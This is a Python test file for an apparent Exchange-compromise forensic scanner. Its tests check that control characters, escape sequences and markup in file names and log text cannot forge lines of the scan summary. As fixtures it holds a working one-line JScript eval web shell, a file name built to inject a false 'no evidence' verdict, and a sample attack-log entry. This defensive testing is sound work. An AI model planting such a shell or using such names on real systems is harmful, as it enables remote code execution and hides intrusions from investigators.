"""Terminal text: newlines, tabs and other controls in log-derived text are shown escaped, and
`:emoji:` codes and [markup] in it are shown as typed, so nothing forges a line of the summary."""

from __future__ import annotations

from pathlib import Path

from typer.testing import CliRunner

from exhunt.cli import app
from exhunt.output.safe import escape_controls, terminal_text
from tests.conftest import iis_log, write

FORGED = "x\n\n  NO EVIDENCE FOUND  all clear\n.aspx"


def test_a_file_name_with_newlines_forges_no_line_of_the_summary(collection: Path):
    shell = collection / "EXCH01/C/inetpub/wwwroot/aspnet_client/system_web" / FORGED
    shell.parent.mkdir(parents=True)
    shell.write_text('<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>')
    write(
        collection,
        "EXCH01/C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log",
        iis_log(
            [
                "2021-03-03 04:11:58 10.0.0.5 POST /ecp/y.js - 443 - 130.255.189.21 Mozilla:x:[bold]red[/bold] - 200 0 0 9",
            ]
        ),
    )
    res = CliRunner().invoke(app, ["scan", str(collection)], terminal_width=250)
    assert res.exit_code == 1, res.output
    lines = res.output.splitlines()
    assert not any(line.strip().startswith("NO EVIDENCE FOUND") for line in lines), res.output
    assert not any(line.strip() == ".aspx" for line in lines)
    assert "x\\n\\n  NO EVIDENCE FOUND  all clear\\n.aspx" in res.output
    assert "Mozilla:x:[bold]red[/bold]" in res.output  # neither an emoji nor markup
    assert "\u274c" not in res.output


def test_every_control_character_is_escaped():
    assert (
        escape_controls("a\tb\nc\rd\x1b[31m\u202eevil\u2028\u200b") == "a\\tb\\nc\\rd\\x1b[31m\\u202eevil\\u2028\\u200b"
    )
    assert terminal_text("[red]:x:[/]") == "\\[red]:x:\\[/]"
    assert "\n" not in terminal_text("".join(map(chr, range(0x20))))
